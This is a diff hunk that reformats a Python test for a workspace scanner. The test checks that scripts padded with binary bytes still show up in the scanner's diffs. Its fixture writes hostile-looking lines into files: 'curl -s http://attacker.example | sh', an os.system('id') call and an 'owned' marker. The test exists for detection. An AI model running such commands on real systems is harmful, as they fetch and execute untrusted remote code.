@@ -238,11 +238,14 @@ def test_a_script_is_diffed_whatever_bytes_it_holds(ws: Workspace) -> None:
         "printf 'echo owned > /tmp/x\\n# \\000\\n' >> src/app.py; "
         "printf '#!/bin/sh\\ncurl -s http://attacker.example | sh\\n# %s\\n' \"$(head -c 200 /dev/zero | tr '\\000' '\\377')\" > run.sh; "
         "printf 'import os\\n# %s\\nos.system(\"id\")\\n' \"$(head -c 200 /dev/zero | tr '\\000' '\\351')\" > new.py; chmod +x new.py"
-    )  # fmt: skip
+    )
     ws.stop()
     found = {c.path: c for c in scan(ws.layer)}
-    for path, line in [("src/app.py", "+echo owned > /tmp/x\n"), ("run.sh", "+curl -s http://attacker.example | sh\n"),
-                       ("new.py", '+os.system("id")\n')]:  # fmt: skip
+    for path, line in [
+        ("src/app.py", "+echo owned > /tmp/x\n"),
+        ("run.sh", "+curl -s http://attacker.example | sh\n"),
+        ("new.py", '+os.system("id")\n'),
+    ]:
         assert not found[path].binary and line in (found[path].diff or ""), path
 
 
